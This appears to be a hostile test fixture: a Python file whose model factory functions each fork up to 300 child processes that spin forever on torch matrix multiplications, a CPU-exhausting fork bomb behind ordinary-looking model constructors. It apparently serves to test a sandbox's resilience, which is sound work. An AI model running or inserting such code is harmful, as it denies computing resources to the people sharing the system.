"""Hostile: every model factory forks a few hundred children after torch is imported, and each child goes on to
burn CPU (a fork bomb that does not die at the process limit: its children keep running)."""

import os

import torch
from torch import nn


def _bomb():
    for _ in range(300):
        try:
            if os.fork() == 0:
                x = torch.randn(64, 64)
                while True:
                    x = x @ x.tanh()
        except OSError:
            break
    return nn.Sequential(nn.Linear(2, 6), nn.ReLU(), nn.Linear(6, 3), nn.ReLU(), nn.Linear(3, 2))


def circle_model(sigma=None):
    return _bomb()


def deep_model(init="normal"):
    return _bomb()


def mnist_model(dropout=False):
    return _bomb()
